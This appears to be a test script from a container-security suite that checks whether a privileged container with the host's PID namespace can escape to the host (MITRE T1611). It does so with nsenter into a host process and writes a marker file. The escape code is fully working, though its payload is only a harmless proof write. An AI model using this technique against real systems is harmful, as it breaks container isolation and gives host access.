#!/usr/bin/env bash
# Enters the namespaces of a process of the host from a privileged container. MITRE ATT&CK T1611, Escape to Host.
. "$(dirname "$0")/lib.sh"

make_scratch
bring_privileged --pid=host || stopped "no privileged container: $problem"
# Any process of the host does: the first one, or where that has more rights
# than the container could be given, the next that lets itself be entered.
out=$(docker exec "$brought" bash -c "
own=\$(readlink /proc/self/ns/mnt) host=\$(readlink /proc/self/ns/pid)
for pid in \$(ls /proc | grep -x '[0-9]*' | sort -n); do
	cd /proc/\$pid/ns 2>/dev/null && mnt=\$(readlink mnt) && [ \"\$(readlink pid)\" = \"\$host\" ] && [ \"\$mnt\" != \"\$own\" ] || continue
	exec nsenter --target \$pid --mount --uts --ipc --net --pid -- sh -c \"echo $mark >'$scratch/escaped'; id -u\"
done
echo no process can be entered" 2>&1)
[ "$(cat "$scratch/escaped" 2>/dev/null)" = "$mark" ] || stopped "nothing was written on the host: $out"
worked "a shell in the host's namespaces, as uid $out, wrote to $scratch"
